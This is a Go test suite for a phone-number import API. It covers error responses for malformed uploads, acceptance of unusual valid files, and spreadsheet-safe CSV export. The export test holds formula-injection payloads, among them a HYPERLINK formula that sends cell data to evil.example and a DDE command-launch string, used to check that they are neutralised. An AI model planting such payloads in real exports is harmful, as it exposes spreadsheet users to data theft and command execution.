package app_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/phonepipe/phonepipe/cmd/phonepipe/app"
	"github.com/phonepipe/phonepipe/transport/httpapi"
)

// Bad input through HTTP: every limit and malformation answers with the
// contract's error shape, the right status and code and, where the problem
// has one, the line; every odd-but-valid upload completes with exactly the
// rows it holds.

// badInputError is the contract's error body.
type badInputError struct {
	Error struct {
		Code    string `json:"code"`
		Message string `json:"message"`
		Line    int    `json:"line"`
	} `json:"error"`
}

// deepJSON nests an ignored value depth levels deep before the numbers.
func deepJSON(depth int) string {
	return `{"extra":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + `,"numbers":["+3612345678"]}`
}

// longLineCSV is a header and rows whose line 3 is longer than the default
// MaxLineBytes (65536) while every cell stays below MaxCellBytes (1024).
func longLineCSV() string {
	cells := make([]string, 70)
	for i := range cells {
		cells[i] = strings.Repeat("x", 1000)
	}
	return "number,note\n+3612345678,ok\n+36301234567," + strings.Join(cells, ",") + "\n"
}

// multipartBody builds a form with the given parts (name → content); a
// part named "file" is a file part.
func multipartBody(t *testing.T, parts [][2]string) (string, []byte) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for _, p := range parts {
		var err error
		if p[0] == "file" {
			var fw interface{ Write([]byte) (int, error) }
			fw, err = mw.CreateFormFile("file", "list.csv")
			if err == nil {
				_, err = fw.Write([]byte(p[1]))
			}
		} else {
			err = mw.WriteField(p[0], p[1])
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := mw.Close(); err != nil {
		t.Fatal(err)
	}
	return mw.FormDataContentType(), buf.Bytes()
}

func TestBadUploadsAreRejectedWithClearErrors(t *testing.T) {
	const maxBytes = 256 << 10
	a := startApp(t, app.Config{MaxUploadBytes: maxBytes, MaxRows: 5, Roles: []string{app.RoleAPI}})
	base := a.URL()
	formType, formNoFile := multipartBody(t, [][2]string{{"default_region", "HU"}})
	tests := []struct {
		name        string
		contentType string
		body        string
		header      map[string]string
		status      int
		code        string
		line        int    // 0: no line expected
		mention     string // the message must contain this
	}{
		// Limits.
		{name: "body over MaxUploadBytes", contentType: "text/csv",
			body:   "number\n" + strings.Repeat("+3612345678\n", maxBytes/12+10),
			status: http.StatusRequestEntityTooLarge, code: "payload_too_large", mention: fmt.Sprint(maxBytes)},
		{name: "json over MaxUploadBytes", contentType: "application/json",
			body:   `{"numbers":["` + strings.Repeat("1", maxBytes) + `"]}`,
			status: http.StatusRequestEntityTooLarge, code: "payload_too_large"},
		{name: "more rows than MaxRows", contentType: "text/csv",
			body:   "number\n1111111\n2222222\n3333333\n4444444\n5555555\n6666666\n",
			status: http.StatusUnprocessableEntity, code: "too_many_rows", line: 7, mention: "5 rows"},
		{name: "more json rows than MaxRows", contentType: "application/json",
			body:   `{"numbers":["1","2","3","4","5","6"]}`,
			status: http.StatusUnprocessableEntity, code: "too_many_rows"},
		{name: "cell too long", contentType: "text/csv",
			body:   "number\n+3612345678\n" + strings.Repeat("1", 1025) + "\n",
			status: http.StatusBadRequest, code: "cell_too_long", line: 3, mention: "1024"},
		{name: "cell too long in a column not used", contentType: "text/csv",
			body:   "number,note\n+3612345678,ok\n+36301234567," + strings.Repeat("n", 2000) + "\n",
			status: http.StatusBadRequest, code: "cell_too_long", line: 3},
		{name: "line too long", contentType: "text/csv", body: longLineCSV(),
			status: http.StatusBadRequest, code: "line_too_long", line: 3, mention: "65536"},
		{name: "json value too long", contentType: "application/json",
			body:   `{"numbers":["+3612345678","` + strings.Repeat("1", 1025) + `"]}`,
			status: http.StatusBadRequest, code: "cell_too_long", line: 1, mention: "row 2"},

		// CSV structure and encoding.
		{name: "unclosed quote", contentType: "text/csv",
			body:   "number\n+3612345678\n\"+36301234567\n+3612345679\n+3612345670\n",
			status: http.StatusBadRequest, code: "malformed_csv", line: 3},
		{name: "text after a closing quote", contentType: "text/csv",
			body:   "number,ref\n+3612345678,a\n\"+36301234567\"x,b\n",
			status: http.StatusBadRequest, code: "malformed_csv", line: 3},
		{name: "invalid UTF-8 in the number", contentType: "text/csv",
			body:   "number\n+3612345678\n+36\xff\xfe1234567\n",
			status: http.StatusBadRequest, code: "invalid_encoding", line: 3, mention: "UTF-8"},
		{name: "invalid UTF-8 in the ref", contentType: "text/csv",
			body:   "number,ref\n+3612345678,a\n+36301234567,b\n+3612345679,Jos\xe9\n",
			status: http.StatusBadRequest, code: "invalid_encoding", line: 4},
		{name: "NUL byte in a cell", contentType: "text/csv",
			body:   "number\n+3612345678\n+3630\x001234567\n",
			status: http.StatusBadRequest, code: "invalid_encoding", line: 3, mention: "NUL"},
		{name: "UTF-16 file", contentType: "text/csv",
			body:   "\xff\xfen\x00u\x00m\x00b\x00e\x00r\x00\n\x001\x00\n\x00",
			status: http.StatusBadRequest, code: "invalid_encoding", line: 1, mention: "UTF-16"},
		{name: "UTF-16 without BOM (NULs in the header)", contentType: "text/csv",
			body:   "n\x00u\x00m\x00b\x00e\x00r\x00\n\x001\x002\x003\x004\x005\x00\n\x00",
			status: http.StatusBadRequest, code: "invalid_encoding", line: 1},
		{name: "no number column", contentType: "text/csv", body: "region,ref\nHU,a\n",
			status: http.StatusBadRequest, code: "missing_number_column", line: 1},
		{name: "only blank lines", contentType: "text/csv", body: "\n\r\n  \n",
			status: http.StatusBadRequest, code: "empty_body"},

		// JSON shape.
		{name: "json nested too deep", contentType: "application/json", body: deepJSON(65),
			status: http.StatusBadRequest, code: "invalid_json", line: 1, mention: "64"},
		{name: "number of the wrong type", contentType: "application/json",
			body:   "{\"numbers\":[\n\"+3612345678\",\n\"+36301234567\",\n36301234568\n]}",
			status: http.StatusBadRequest, code: "invalid_json", line: 4, mention: "row 3"},
		{name: "row of the wrong type", contentType: "application/json",
			body:   `{"rows":[{"number":"+3612345678"},"+36301234567"]}`,
			status: http.StatusBadRequest, code: "invalid_json", mention: "row 2"},
		{name: "row field of the wrong type", contentType: "application/json",
			body:   `{"rows":[{"number":"+3612345678"},{"number":"+36301234567","region":["HU"]}]}`,
			status: http.StatusBadRequest, code: "invalid_json", mention: "row 2"},
		{name: "duplicate key in a row", contentType: "application/json",
			body:   "{\"rows\":[\n{\"number\":\"+3612345678\"},\n{\"number\":\"+36301234567\",\"number\":\"+36301234568\"}\n]}",
			status: http.StatusBadRequest, code: "invalid_json", line: 3, mention: "row 2"},
		{name: "duplicate top-level key", contentType: "application/json",
			body:   `{"numbers":["+3612345678"],"numbers":["+36301234567"]}`,
			status: http.StatusBadRequest, code: "invalid_json", mention: "duplicate"},
		{name: "row without a number", contentType: "application/json",
			body:   `{"rows":[{"number":"+3612345678"},{"ref":"x"}]}`,
			status: http.StatusBadRequest, code: "invalid_json", mention: "row 2"},
		{name: "both numbers and rows", contentType: "application/json",
			body:   `{"numbers":["+3612345678"],"rows":[{"number":"+36301234567"}]}`,
			status: http.StatusBadRequest, code: "invalid_json"},
		{name: "not an object", contentType: "application/json", body: `["+3612345678"]`,
			status: http.StatusBadRequest, code: "invalid_json"},
		{name: "json syntax error", contentType: "application/json",
			body:   "{\"numbers\":[\n\"+3612345678\"\n\"+36301234567\"]}",
			status: http.StatusBadRequest, code: "malformed_json", line: 3},
		{name: "json invalid UTF-8", contentType: "application/json",
			body:   "{\"numbers\":[\n\"+3612345678\",\n\"+36\xff\"]}",
			status: http.StatusBadRequest, code: "invalid_encoding", line: 3},
		{name: "json NUL character", contentType: "application/json",
			body:   `{"numbers":["+3612345678","+3630\u00001234567"]}`,
			status: http.StatusBadRequest, code: "invalid_encoding", mention: "row 2"},

		// Envelope.
		{name: "form without a file", contentType: formType, body: string(formNoFile),
			status: http.StatusBadRequest, code: "missing_file"},
		{name: "compressed body", contentType: "text/csv", body: "number\n+3612345678\n",
			header: map[string]string{"Content-Encoding": "gzip"},
			status: http.StatusUnsupportedMediaType, code: "unsupported_media_type"},
		{name: "no content type", contentType: "", body: "number\n+3612345678\n",
			status: http.StatusUnsupportedMediaType, code: "unsupported_media_type"},
		{name: "idempotency key too long", contentType: "text/csv", body: "number\n+3612345678\n",
			header: map[string]string{"Idempotency-Key": strings.Repeat("k", 192)},
			status: http.StatusBadRequest, code: "invalid_idempotency_key"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			req, err := http.NewRequest(http.MethodPost, base+"/v1/imports", strings.NewReader(tc.body))
			if err != nil {
				t.Fatal(err)
			}
			if tc.contentType != "" {
				req.Header.Set("Content-Type", tc.contentType)
			}
			for k, v := range tc.header {
				req.Header.Set(k, v)
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatalf("POST: %v", err)
			}
			defer resp.Body.Close()
			var e badInputError
			if err := json.NewDecoder(resp.Body).Decode(&e); err != nil {
				t.Fatalf("status %d with a body that is not JSON: %v", resp.StatusCode, err)
			}
			if resp.StatusCode != tc.status || e.Error.Code != tc.code {
				t.Fatalf("%d %s (%q), want %d %s", resp.StatusCode, e.Error.Code, e.Error.Message, tc.status, tc.code)
			}
			if e.Error.Message == "" {
				t.Fatal("empty error message")
			}
			if tc.line != 0 && e.Error.Line != tc.line {
				t.Fatalf("line %d, want %d (%s)", e.Error.Line, tc.line, e.Error.Message)
			}
			if !strings.Contains(e.Error.Message, tc.mention) {
				t.Fatalf("message %q does not mention %q", e.Error.Message, tc.mention)
			}
		})
	}
}

// wantRow is what an accepted row must come back as.
type wantRow struct{ input, region, ref string }

func TestOddButValidUploadsComplete(t *testing.T) {
	a := startApp(t, app.Config{})
	base := a.URL()
	formType, form := multipartBody(t, [][2]string{{"file", "name;mobile\r\nAda;+3612345678\r\nBob;+36301234567\r\n"}})
	tests := []struct {
		name        string
		contentType string
		body        string
		want        []wantRow
	}{
		{"UTF-8 BOM and CRLF", "text/csv", "\xef\xbb\xbfnumber,ref\r\n+3612345678,a\r\n+36301234567,b\r\n",
			[]wantRow{{"+3612345678", "", "a"}, {"+36301234567", "", "b"}}},
		{"semicolons", "text/csv", "name;phone;region\nAda;06 30 123 4567;HU\nBob;030 123456;DE\n",
			[]wantRow{{"06 30 123 4567", "HU", ""}, {"030 123456", "DE", ""}}},
		{"tabs", "text/csv", "Phone Number\tRef\n+3612345678\tx1\n+36301234567\tx2\n",
			[]wantRow{{"+3612345678", "", "x1"}, {"+36301234567", "", "x2"}}},
		{"quoted fields with delimiters, quotes and newlines", "text/csv",
			"ref,number\n\"multi\nline\",+3612345678\n\"a,b\",\"+36 30 123 4567\"\n\"say \"\"hi\"\"\",+36301234568\n",
			[]wantRow{{"+3612345678", "", "multi\nline"}, {"+36 30 123 4567", "", "a,b"}, {"+36301234568", "", `say "hi"`}}},
		{"ragged rows", "text/csv", "number,region,ref\n+3612345678\n06301234567,HU,r2,extra,cells\n",
			[]wantRow{{"+3612345678", "", ""}, {"06301234567", "HU", "r2"}}},
		{"blank lines and empty records are not rows", "text/csv", "number\n\n+3612345678\n,\n   \n+36301234567\n\n",
			[]wantRow{{"+3612345678", "", ""}, {"+36301234567", "", ""}}},
		{"lone CR line ends", "text/csv", "number\r+3612345678\r+36301234567\r",
			[]wantRow{{"+3612345678", "", ""}, {"+36301234567", "", ""}}},
		{"Latin-1 in a column not used", "text/csv", "number,name\n+3612345678,Jos\xe9\n",
			[]wantRow{{"+3612345678", "", ""}}},
		{"no header", "text/csv", "+36 1 234 5678\n+36301234567\n",
			[]wantRow{{"+36 1 234 5678", "", ""}, {"+36301234567", "", ""}}},
		{"no final newline", "text/csv", "number\n+3612345678",
			[]wantRow{{"+3612345678", "", ""}}},
		{"spreadsheet junk is a result, not an error", "text/csv", "number\n=1+2\n@SUM(1)\n-2+3\n",
			[]wantRow{{"=1+2", "", ""}, {"@SUM(1)", "", ""}, {"-2+3", "", ""}}},
		{"json with unknown keys, nulls and escapes", "application/json",
			`{"extra":{"deep":[[1],{"x":null}]},"default_region":null,"rows":[{"number":"+36\u0031\u0032345678","ref":null,"note":[1,2]},{"number":"06301234567","region":"HU","ref":"r\u00e9"}]}`,
			[]wantRow{{"+3612345678", "", ""}, {"06301234567", "HU", "ré"}}},
		{"json nested exactly 64 deep", "application/json", deepJSON(64), []wantRow{{"+3612345678", "", ""}}},
		{"multipart with semicolons and CRLF", formType, string(form),
			[]wantRow{{"+3612345678", "", ""}, {"+36301234567", "", ""}}},
	}
	ids := make([]string, len(tests))
	for i, tc := range tests {
		resp, b := post(t, base+"/v1/imports", tc.contentType, []byte(tc.body), nil)
		if resp.StatusCode != http.StatusAccepted {
			t.Fatalf("%s: %d %s", tc.name, resp.StatusCode, b)
		}
		var acc struct {
			ID    string
			Total int
		}
		if err := json.Unmarshal(b, &acc); err != nil {
			t.Fatal(err)
		}
		if acc.Total != len(tc.want) {
			t.Fatalf("%s: total %d, want %d", tc.name, acc.Total, len(tc.want))
		}
		ids[i] = acc.ID
	}
	for i, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			sum := waitCompleted(t, base, ids[i], time.Minute)
			if sum.Processed != len(tc.want) {
				t.Fatalf("summary %+v, want %d rows", sum, len(tc.want))
			}
			got := results(t, base, ids[i])
			if len(got) != len(tc.want) {
				t.Fatalf("%d result rows, want %d: %+v", len(got), len(tc.want), got)
			}
			for j, w := range tc.want {
				r := got[j]
				if r.Row != j+1 || r.Input != w.input || r.Ref != w.ref || (w.region != "" && r.Region != w.region) {
					t.Errorf("row %d: %+v, want %+v", j+1, r, w)
				}
			}
		})
	}
}

// TestCSVExportIsSpreadsheetSafe: a result cell a spreadsheet would run as a
// formula is prefixed with a quote in the CSV export, while plain E.164
// numbers come out unchanged; NDJSON keeps the raw text.
func TestCSVExportIsSpreadsheetSafe(t *testing.T) {
	a := startApp(t, app.Config{})
	base := a.URL()
	inputs := []struct{ number, ref string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "=1+1"},
		{"@SUM(1)", "@cmd"},
		{"-2+3", "-1"},
		{"+3612345678", "+36 30 123 4567"},
		{"+36 30 123 4567", "=cmd|' /C calc'!A0"},
		{"06 30 123 4567", "plain"},
	}
	var body bytes.Buffer
	w := csv.NewWriter(&body)
	_ = w.Write([]string{"number", "ref"})
	for _, in := range inputs {
		_ = w.Write([]string{in.number, in.ref})
	}
	w.Flush()
	resp, b := post(t, base+"/v1/imports?default_region=HU", "text/csv", body.Bytes(), nil)
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("upload: %d %s", resp.StatusCode, b)
	}
	var acc struct{ ID string }
	_ = json.Unmarshal(b, &acc)
	waitCompleted(t, base, acc.ID, time.Minute)

	raw := results(t, base, acc.ID)
	for i, in := range inputs {
		if raw[i].Input != in.number || raw[i].Ref != in.ref {
			t.Fatalf("NDJSON row %d: %+v, want the raw input %q / %q", i+1, raw[i], in.number, in.ref)
		}
	}

	get, err := http.Get(base + "/v1/imports/" + acc.ID + "/results?format=csv")
	if err != nil {
		t.Fatal(err)
	}
	defer get.Body.Close()
	recs, err := csv.NewReader(get.Body).ReadAll()
	if err != nil {
		t.Fatalf("read CSV export: %v", err)
	}
	if len(recs) != len(inputs)+1 {
		t.Fatalf("%d CSV records, want a header and %d rows", len(recs), len(inputs))
	}
	col := map[string]int{}
	for i, name := range recs[0] {
		col[name] = i
	}
	dangerous := func(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) }
	for i, rec := range recs[1:] {
		for name, j := range col {
			cell := rec[j]
			if dangerous(cell) && !plainE164(cell) {
				t.Errorf("row %d, column %s: %q would run as a formula", i+1, name, cell)
			}
		}
		// A neutralised cell reads back as the original after the quote.
		for _, c := range []struct{ name, raw string }{{"input", raw[i].Input}, {"ref", raw[i].Ref}, {"e164", raw[i].E164}} {
			want := c.raw
			if dangerous(want) && !plainE164(want) {
				want = "'" + want
			}
			if got := rec[col[c.name]]; got != want {
				t.Errorf("row %d, column %s: %q, want %q", i+1, c.name, got, want)
			}
		}
	}
	if e := recs[4][col["e164"]]; e != "+3612345678" || recs[4][col["input"]] != "+3612345678" {
		t.Errorf("an E.164 number must round-trip unchanged, got e164 %q input %q", e, recs[4][col["input"]])
	}
	if e := recs[6][col["e164"]]; e != "+36301234567" {
		t.Errorf("e164 of a national number: %q, want +36301234567", e)
	}
}

// plainE164 reports "+" and 1 to 15 digits.
func plainE164(s string) bool {
	if len(s) < 2 || len(s) > 16 || s[0] != '+' {
		return false
	}
	return strings.Trim(s[1:], "0123456789") == ""
}

// TestSpreadsheetSafeCells covers the cells an upload cannot produce
// (uploads are trimmed, so no cell starts with a tab or CR).
func TestSpreadsheetSafeCells(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"-1", "'-1"},
		{"@A1", "'@A1"},
		{"\tcmd", "'\tcmd"},
		{"\rcmd", "'\rcmd"},
		{"+3612345678", "+3612345678"},
		{"+", "'+"},
		{"+1234567890123456", "'+1234567890123456"}, // 16 digits: not E.164
		{"+36 1 234 5678", "'+36 1 234 5678"},
		{"'=1", "'=1"},
		{" =1", " =1"},
	}
	for _, tc := range tests {
		if got := httpapi.SpreadsheetSafe(tc.in); got != tc.want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
